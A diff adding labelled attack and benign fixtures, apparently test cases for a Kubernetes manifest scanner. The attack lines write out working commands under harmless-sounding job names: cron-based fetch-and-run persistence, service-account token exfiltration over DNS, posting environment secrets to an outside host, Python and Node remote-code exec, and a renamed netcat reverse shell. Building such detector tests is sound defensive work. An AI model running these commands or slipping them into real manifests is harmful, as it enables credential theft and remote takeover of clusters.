@@ -163,3 +163,38 @@ gen benign/sa-token-env-apiserver.yaml create cronjob lease-check --image=curlim
 # The instance's region from IMDS (no credential path): cloud-metadata-access warns, not more.
 gen benign/imds-region-lookup.yaml create job region-probe --image=curlimages/curl:8.8.0 \
   -- curl -s http://169.254.169.254/latest/meta-data/placement/region
+
+# ---------------------------------------------------------------- persistence, DNS, environment, interpreter grading
+# A cron table written inside the container and crond started: the entry runs a fetched script every 5 minutes.
+gen attack/persist-crontab-in-pod.yaml create cronjob cache-sweeper --image=alpine:3.20 --schedule='0 * * * *' \
+  -- sh -c 'echo "*/5 * * * * wget -qO- http://198.51.100.23/p | sh" > /etc/crontabs/root && crond -f -l 8'
+# The service-account token base32-encoded into DNS names: the lookups carry it to the domain's name server.
+gen attack/cred-sa-token-dns-exfil.yaml create cronjob dns-warmup --image=alpine:3.20 --schedule='*/30 * * * *' \
+  -- sh -c 'for c in $(base32 -w0 /var/run/secrets/kubernetes.io/serviceaccount/token | tr -d = | fold -w 60); do nslookup $c.t.k8s-metrics.example; done'
+# The whole environment (Secrets given as env included) posted to a public host.
+gen attack/cred-env-dump-post.yaml create job env-report --image=curlimages/curl:8.8.0 \
+  -- sh -c 'env | curl -s -X POST --data-binary @- https://collect.k8s-metrics.example/e'
+# Python fetches into /tmp and runs it with exec(open().read()): graded as the shell's download to /tmp.
+gen attack/download-python-tmp-exec.yaml create cronjob feature-sync --image=python:3.12-slim --schedule='15 * * * *' \
+  -- python3 -c 'import urllib.request as u
+u.urlretrieve("https://cdn.update-check.example/agent.py", "/tmp/agent.py")
+exec(open("/tmp/agent.py").read())'
+# Node fetches from a tunnel and hands the text to eval as a promise callback.
+gen attack/download-node-tunnel-then-eval.yaml create job asset-hash --image=node:22-alpine \
+  -- node -e 'fetch("https://3f9a-203-0-113-5.ngrok-free.app/j.js").then(r => r.text()).then(eval)'
+# HTTPS with certificate checks off, piped into a shell.
+gen attack/download-curl-insecure-sh.yaml create cronjob cert-rotate --image=debian:12-slim --schedule='0 3 * * *' \
+  -- bash -c 'curl -fsSk https://cdn.update-check.example/rotate.sh | bash'
+# netcat copied under a kernel thread's name, then run with -e.
+gen attack/revshell-renamed-nc.yaml create job kworker --image=alpine:3.20 \
+  -- sh -c 'cp $(which nc) /tmp/kworker && /tmp/kworker 198.51.100.23 5555 -e /bin/sh'
+# Fetched lines run one by one by awk system().
+gen attack/download-awk-system.yaml create cronjob queue-drain --image=busybox:1.36 --schedule='*/10 * * * *' \
+  -- sh -c "wget -qO- http://198.51.100.23/cmds | awk '{system(\$0)}'"
+# Benign look-alikes: a cron table of the image's own commands, DNS checks, an environment dump to the log.
+gen benign/crontab-logrotate-in-pod.yaml create deployment log-rotator --image=debian:12-slim \
+  -- sh -c 'echo "0 * * * * /usr/sbin/logrotate /etc/logrotate.conf" | crontab - && exec cron -f'
+gen benign/dns-check-nslookup.yaml create cronjob dns-check --image=busybox:1.36 --schedule='*/5 * * * *' \
+  -- sh -c 'for h in kubernetes.default.svc.cluster.local api.github.com; do nslookup "$h" || exit 1; done'
+gen benign/env-debug-log.yaml create job debug-env --image=alpine:3.20 \
+  -- sh -c 'env | sort; exec /app/run'
